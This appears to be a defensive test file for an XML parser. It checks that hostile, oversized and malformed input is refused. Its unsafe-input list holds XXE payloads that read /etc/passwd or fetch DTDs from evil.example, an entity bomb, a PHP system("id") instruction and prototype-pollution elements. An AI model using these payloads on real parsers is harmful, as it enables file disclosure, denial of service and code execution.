import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isGatewayError } from '@heliograph/contracts'
import fc from 'fast-check'
import { parseXml, type XmlLimits } from '../src/index.ts'
import { assertRefused } from './refusals.ts'

const BOMB = `<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>`

const UNSAFE: readonly (readonly [what: string, text: string])[] = [
  ['an entity bomb', BOMB],
  ['an entity bomb behind a declaration', `<?xml version="1.0"?>${BOMB}`],
  ['an external entity', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'],
  ['an external parameter entity', '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><x/>'],
  ['a document type alone', '<!DOCTYPE x><x/>'],
  ['a document type with an external subset', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'],
  ['a document type behind the element', '<x/><!DOCTYPE x>'],
  ['a document type inside the element', '<x><!DOCTYPE x></x>'],
  ['a document type in lower case', '<!doctype x><x/>'],
  ['an entity declaration alone', '<!ENTITY a "b"><x/>'],
  ['a notation', '<x><!NOTATION a SYSTEM "b"></x>'],
  ['a conditional section', '<x><![INCLUDE[<!ENTITY a "b">]]></x>'],
  ['a processing instruction', '<x><?php system("id") ?></x>'],
  ['a stylesheet', '<?xml-stylesheet href="http://evil.example/"?><x/>'],
  ['an XML declaration inside', '<x><?xml version="1.0"?></x>'],
  ['an XML declaration behind a blank', ' <?xml version="1.0"?><x/>'],
  ['an XML declaration without a version', '<?xml encoding="utf-8"?><x/>'],
  ['a processing instruction that never ends', '<x/><?a'],
  ['an element __proto__', '<x><__proto__><polluted>1</polluted></__proto__></x>'],
  ['an element prototype', '<x><prototype/></x>'],
]

for (const [what, text] of UNSAFE) {
  test(`unsafe: ${what}`, () => assertRefused(() => parseXml(text), 'unsafe-xml'))
}

const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth)
const withAttributes = (count: number) =>
  `<x ${Array.from({ length: count }, (_, index) => `a${index}=""`).join(' ')}/>`

const TOO_LARGE: readonly (readonly [what: string, text: string, limits?: XmlLimits])[] = [
  ['elements inside each other', nested(33)],
  ['a million elements inside each other', nested(1_000_000)],
  ['a million start tags without an end', '<a>'.repeat(1_000_000)],
  ['many elements', `<x>${'<a/>'.repeat(10_000)}</x>`],
  ['many comments', `<x>${'<!---->'.repeat(10_000)}</x>`],
  ['many CDATA sections', `<x>${'<![CDATA[]]>'.repeat(10_000)}</x>`],
  ['many attributes', withAttributes(51)],
  ['many attributes on many elements', `<x>${withAttributes(50).repeat(200)}</x>`],
  ['many long tags', `<x>${`<a b="${'y'.repeat(8_000)}"/>`.repeat(40)}</x>`],
  ['a hundred thousand attributes', withAttributes(100_000)],
  ['a huge attribute', `<x a="${'y'.repeat(8200)}"/>`],
  ['an attribute of 4 MB', `<x a="${'y'.repeat(4_000_000)}"/>`],
  ['a tag of blanks', `<x${' '.repeat(9000)}/>`],
  ['a huge name', `<${'x'.repeat(9000)}/>`],
  ['a huge text', `<x>${'y'.repeat(4 * 1024 * 1024)}</x>`],
  ['elements inside each other, whatever the limit says', nested(501), { depth: 1_000_000 }],
  ['a limit of its own', '<x><a/></x>', { depth: 1 }],
]

for (const [what, text, limits] of TOO_LARGE) {
  test(`too large: ${what}`, () => assertRefused(() => parseXml(text, limits), 'xml-too-large'))
}

const MALFORMED: readonly (readonly [what: string, text: string])[] = [
  ['nothing', ''],
  ['blanks', '  \n'],
  ['text', 'to=1&msg=2'],
  ['JSON', '{"a":1}'],
  ['a comment alone', '<!-- -->'],
  ['text before the element', 'a<x/>'],
  ['text behind the element', '<x/>a'],
  ['two elements', '<x/><y/>'],
  ['an element that does not end', '<x><y></y>'],
  ['an end tag too many', '<x></x></x>'],
  ['an end tag of another element', '<x><y></x></y>'],
  ['an end tag in another letter case', '<x></X>'],
  ['an end tag with attributes', '<x></x a="1">'],
  ['an end tag with a blank in front', '<x></ x>'],
  ['a tag that does not end', '<x'],
  ['a tag within a tag', '<x <y/>/>'],
  ['a blank before the name', '< x/>'],
  ['a name that begins with a digit', '<1x/>'],
  ['a name of two colons', '<a:b:c xmlns:a="u"/>'],
  ['an empty prefix', '<:a/>'],
  ['an attribute without quotes', '<x a=1/>'],
  ['an attribute without a value', '<x a/>'],
  ['an attribute with a <', '<x a="<"/>'],
  ['an attribute that does not end', '<x a="1/>'],
  ['attributes without a blank between them', '<x a="1"b="2"/>'],
  ['two attributes of one name', '<x a="1" a="2"/>'],
  ['two attributes of one name by different prefixes', '<x xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"/>'],
  ['two attributes of one namespace declaration', '<x xmlns="u" xmlns="v"/>'],
  ['a comment with -- in it', '<x><!-- a -- b --></x>'],
  ['a comment that does not end', '<x><!-- a</x>'],
  ['a comment that ends in --->', '<x><!-- a ---></x>'],
  ['a CDATA section that does not end', '<x><![CDATA[a</x>'],
  ['a CDATA section outside the element', '<x/><![CDATA[a]]>'],
  [']]> in a text', '<x>a]]>b</x>'],
  ['a bare &', '<x>a & b</x>'],
  ['a & that begins no reference', '<x>a&b</x>'],
  ['an entity of HTML', '<x>&nbsp;</x>'],
  ['an entity that is not declared', '<x>&a;</x>'],
  ['an entity in another letter case', '<x>&AMP;</x>'],
  ['an entity in an attribute', '<x a="&b;"/>'],
  ['a reference without digits', '<x>&#;</x>'],
  ['a hexadecimal reference with X', '<x>&#X41;</x>'],
  ['a reference to NUL', '<x>&#0;</x>'],
  ['a reference to a control character', '<x>&#x1F;</x>'],
  ['a reference to a surrogate', '<x>&#xD800;</x>'],
  ['a reference to U+FFFF', '<x>&#xFFFF;</x>'],
  ['a reference beyond Unicode', '<x>&#x110000;</x>'],
  ['a reference of very many digits', `<x>&#${'9'.repeat(100_000)};</x>`],
  ['NUL', '<x>\0</x>'],
  ['a control character', '<x>\x1b</x>'],
  ['half a surrogate pair', '<x>\ud83d</x>'],
  ['U+FFFE', '<x>\ufffe</x>'],
  ['a byte order mark inside', '<x/>\ufeff'],
  ['a prefix that is not declared', '<a:x/>'],
  ['a prefix of an attribute that is not declared', '<x a:b="1"/>'],
  ['a prefix declared elsewhere', '<x><y xmlns:a="u"/><a:z/></x>'],
  ['a prefix for no namespace', '<x xmlns:a=""/>'],
  ['the prefix xmlns', '<x xmlns:xmlns="u"/>'],
  ['the prefix xml for another namespace', '<x xmlns:xml="u"/>'],
  ['another prefix for the namespace of xml', '<x xmlns:a="http://www.w3.org/XML/1998/namespace"/>'],
  ['the namespace of xmlns', '<x xmlns="http://www.w3.org/2000/xmlns/"/>'],
]

for (const [what, text] of MALFORMED) {
  test(`malformed: ${what}`, () => assertRefused(() => parseXml(text), 'malformed-xml'))
}

test('nothing is polluted by names', () => {
  for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__']) {
    try {
      parseXml(`<x ${name}="1"><${name} ${name}="1"><polluted>1</polluted></${name}></x>`)
    } catch (error) {
      assert.ok(isGatewayError(error) && error.code === 'unsafe-xml')
    }
  }
  assert.equal(({} as { polluted?: unknown }).polluted, undefined)
})

const GOOD =
  '<?xml version="1.0" encoding="utf-8"?><s:E xmlns:s="u" a="1 &gt; 0"><b>&#65;<![CDATA[<]]></b><!-- c --></s:E>'

function assertReadOrRefused(text: string): void {
  try {
    parseXml(text)
  } catch (error) {
    assert.ok(isGatewayError(error) && error.category === 'invalid', String(error))
  }
}

test('a good document with characters changed, cut out or put in: read or refused', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 3 }),
    fc.constantFrom(
      '<',
      '>',
      '/',
      '"',
      "'",
      '&',
      ';',
      '<!',
      '<?',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '</',
      '/>',
      'xmlns',
      '=',
    ),
  )
  const property = fc.property(fc.nat(GOOD.length), fc.nat(4), piece, (at, removed, added) => {
    assertReadOrRefused(GOOD.slice(0, at) + added + GOOD.slice(at + removed))
  })
  fc.assert(property, { seed: 8, numRuns: 5000 })
})

test('pieces of XML in any order: read or refused', () => {
  const piece = fc.constantFrom(
    '<a>',
    '</a>',
    '<a/>',
    '<b x="1">',
    '</b>',
    ' ',
    'text',
    '<![CDATA[',
    ']]>',
    '<!--',
    '-->',
    '&amp;',
    '&',
    '<',
    '>',
  )
  const property = fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => assertReadOrRefused(pieces.join('')))
  fc.assert(property, { seed: 9, numRuns: 5000 })
})

const LONG = 4_000_000
const SLOW: readonly (readonly [what: string, text: string])[] = [
  ['quotes that never end', `<x ${'a="'.repeat(LONG / 3)}`],
  ['attributes that never end', `<x${' a=""'.repeat(LONG / 5)}`],
  ['blanks in a tag', `<x${' '.repeat(LONG)}`],
  ['blanks behind a name', `<x a${' '.repeat(LONG)}`],
  ['a name that never ends', `<${'x'.repeat(LONG)}`],
  ['ampersands', `<x>${'&'.repeat(LONG)}</x>`],
  ['references', `<x>${'&#65;'.repeat(LONG / 5)}</x>`],
  ['brackets', `<x>${']'.repeat(LONG)}</x>`],
  ['hyphens in a comment', `<x><!--${'-'.repeat(LONG)}--></x>`],
  ['comments that never end', `<x>${'<!--'.repeat(LONG / 4)}</x>`],
  ['line breaks', `<x>${'\r\n'.repeat(LONG / 2)}</x>`],
  ['less-thans', '<'.repeat(LONG)],
]

for (const [what, text] of SLOW) {
  test(`4 MB of ${what} take no more than a moment`, () => {
    const begun = process.cpuUsage()
    assertReadOrRefused(text)
    const { user } = process.cpuUsage(begun)
    assert.ok(user < 5_000_000, `${user} µs`)
  })
}
